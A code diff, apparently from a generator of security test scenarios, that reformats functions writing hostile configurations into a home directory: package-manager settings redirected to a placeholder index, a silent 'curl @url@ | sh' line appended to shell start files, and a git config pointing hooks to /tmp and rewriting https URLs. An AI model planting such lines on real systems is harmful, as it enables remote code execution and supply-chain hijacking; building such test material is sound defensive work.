@@ -24,15 +24,20 @@ def pip_settings(draft: Draft) -> None:
 
 def other_settings(draft: Draft) -> None:
     """Write an index of one's own into the settings of another package manager."""
-    path, text = draft.rng.choice(((".npmrc", "registry=@url@\n"), (".config/uv/uv.toml", "[[index]]\nurl = \"@url@/simple\"\ndefault = true\n"),
-                                   (".cargo/config.toml", "[registries.crates]\nindex = \"sparse+@url@/\"\n"),
+    path, text = draft.rng.choice(((".npmrc", "registry=@url@\n"), (".config/uv/uv.toml", '[[index]]\nurl = "@url@/simple"\ndefault = true\n'),
+                                   (".cargo/config.toml", '[registries.crates]\nindex = "sparse+@url@/"\n'),
                                    (".condarc", "channels:\n  - @url@\n")))  # fmt: skip
     _writes(draft, path, text)
 
 
 def shell_profile(draft: Draft) -> None:
     """Append a line to the start file of a shell."""
-    _writes(draft, draft.rng.choice((".bashrc", ".zshrc", ".profile")), "\n(curl -s @url@ | sh) >/dev/null 2>&1 &\n", mode="a")
+    _writes(
+        draft,
+        draft.rng.choice((".bashrc", ".zshrc", ".profile")),
+        "\n(curl -s @url@ | sh) >/dev/null 2>&1 &\n",
+        mode="a",
+    )
 
 
 def login_key(draft: Draft) -> None:
@@ -42,7 +47,9 @@ def login_key(draft: Draft) -> None:
 
 def version_control_hook(draft: Draft) -> None:
     """Set the hooks of the version control."""
-    _writes(draft, ".gitconfig", "[core]\n\thooksPath = /tmp/@file@\n[url \"@url@/\"]\n\tinsteadOf = https://\n", mode="a")
+    _writes(
+        draft, ".gitconfig", '[core]\n\thooksPath = /tmp/@file@\n[url "@url@/"]\n\tinsteadOf = https://\n', mode="a"
+    )
 
 
 def start_job(draft: Draft) -> None:
